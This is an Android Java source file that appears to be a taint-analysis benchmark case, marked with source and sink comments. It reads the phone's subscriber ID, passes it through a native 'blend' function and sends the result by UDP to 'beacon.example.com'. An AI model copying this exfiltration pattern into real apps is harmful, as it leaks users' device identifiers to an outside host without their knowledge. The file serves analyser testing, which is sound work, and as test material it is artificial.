package bench.flow.copied_bytes;

import android.Manifest;
import android.app.Activity;
import android.content.pm.PackageManager;
import android.os.Bundle;
import android.telephony.TelephonyManager;
import java.io.IOException;
import java.net.DatagramPacket;
import java.net.DatagramSocket;
import java.net.InetAddress;
import java.nio.charset.StandardCharsets;

public final class Main extends Activity {
    static {
        System.loadLibrary("bytes");
    }

    private static native void blend(byte[] packet, byte[] code);

    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        if (checkSelfPermission(Manifest.permission.READ_PHONE_STATE)
                != PackageManager.PERMISSION_GRANTED) {
            requestPermissions(new String[] {Manifest.permission.READ_PHONE_STATE}, 1);
            return;
        }
        String code = getSystemService(TelephonyManager.class).getSubscriberId(); //: #source
        if (code == null || code.length() < 8) return;
        byte[] packet = new byte[16];
        blend(packet, code.getBytes(StandardCharsets.US_ASCII));
        new Thread(() -> send(packet)).start();
    }

    private static void send(byte[] packet) {
        try (DatagramSocket socket = new DatagramSocket()) {
            InetAddress there = InetAddress.getByName("beacon.example.com");
            socket.send(new DatagramPacket(packet, packet.length, there, 4100)); //: #sink
        } catch (IOException problem) {
            Thread.currentThread().interrupt();
        }
    }
}
